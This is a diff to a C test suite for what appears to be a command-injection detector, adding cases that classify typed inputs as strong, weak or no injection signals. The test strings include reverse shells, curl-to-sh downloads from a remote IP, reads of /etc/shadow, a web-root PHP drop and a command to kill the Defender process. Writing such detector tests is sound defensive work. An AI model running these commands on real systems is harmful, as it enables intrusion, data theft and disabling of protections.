@@ -191,6 +191,40 @@ static void wrappers(void)
     STRONG("bash -i >& /dev/tcp/10.0.0.2/4444 0>&1", "bash");
 }
 
+/* A command line typed alone, as a search box gets it: a question about
+ * a command (flags and a number, quoted data, a cmdlet and words) is
+ * text; a wrapper running a probe, or a WMI class listing the host, is
+ * what an injection runs. */
+static void typed_alone(void)
+{
+    STRONG("env id", "sh:id");
+    STRONG("nohup whoami", "whoami");
+    STRONG("timeout 10 uname", "uname");
+    STRONG("env uname -a", "uname");
+    NONE("env variables in docker compose");
+    NONE("nohup vs screen vs tmux");
+    WEAK("sudo apt-get install nginx");
+    STRONG("sudo apt-get install -y http://203.0.113.5/x.deb", "apt-get");
+    STRONG("iwmi win32_process", "iwmi");
+    STRONG("gwmi Win32_UserAccount", "gwmi");
+    STRONG("Get-CimInstance -ClassName Win32_Process", "get-ciminstance");
+    STRONG("Get-Content C:\\Windows\\win.ini", "get-content");
+    WEAK("Copy-Item Rental");
+    WEAK("powershell Get-ChildItem recursive");
+    WEAK("head -n 20 file.csv");
+    WEAK("python -m http.server 8000");
+    STRONG("nc -lvp 4444", "nc");
+    STRONG("ping -c 10 localhost", "ping");         /* a probe's timing */
+    STRONG("Stop-Process -Name MsMpEng -Force", "stop-process");
+    STRONG("Get-Service | Where-Object {$_.Status -eq 'Running'}", "where-object");
+    STRONG("python -c 'import os;os.system(\"id\")'", "python");
+    WEAK("ssh-keygen -t ed25519 -C \"me@example.com\"");
+    WEAK("ldapsearch -x -b \"dc=example,dc=com\" \"(uid=john)\"");
+    WEAK("ldapsearch -x '(&(objectClass=user)(cn=a*))'");
+    STRONG("perl -e \"(system(1))\"", "perl");
+    STRONG("ldapsearch -x \"(uid=john)\";id", "id");
+}
+
 static void values_alone(void)
 {
     STRONG("cat /etc/passwd", "sh:cat");
@@ -214,7 +248,22 @@ static void values_alone(void)
     STRONG("ls -la; nc -e /bin/sh 10.0.0.1 4444", "nc");
     STRONG("ps aux; id", "sh:;id");
     STRONG("ls x && curl http://203.0.113.5/a | sh", "curl");
-    STRONG("x y | grep root", NULL);        /* not a command first */
+    /* not a command first, but a text filter after the pipe runs
+     * nothing ("how to use ls -la | grep"); a file it reads, or a command
+     * that is no filter, does */
+    NONE("x y | grep root");
+    NONE("how to use ls -la | grep");
+    NONE("sort | uniq -c");
+    WEAK("Get-Process | Sort-Object CPU");     /* the cmdlet alone */
+    STRONG("x y | grep root /etc/shadow", "grep");
+    STRONG("x y | grep root > /var/www/x.txt", "grep");
+    STRONG("x y | tee /var/www/html/x.php", "tee");
+    STRONG("x y | nc 10.0.0.1 4444", "nc");
+    STRONG("127.0.0.1 | id", "id");
+    /* a lone command continuing a typed line: only a probe or a shell */
+    WEAK("cd ~ && ls");
+    STRONG("cd /tmp && sh", "sh");
+    STRONG("ls -la && whoami", "whoami");
     STRONG("x y\nWhere is x;`ed&quot;/usr/bin/id;", "sh:;id");  /* `ed` first */
     /* a URL's query: "&name=value" is a parameter, not an assignment */
     NONE("https://translate.google.com/?sl=auto&tl=de&text=git reset --hard HEAD~1&op=translate");
@@ -789,6 +838,7 @@ int main(void)
     evasions();
     wrappers();
     values_alone();
+    typed_alone();
     windows_cmd();
     powershell();
     sinks();
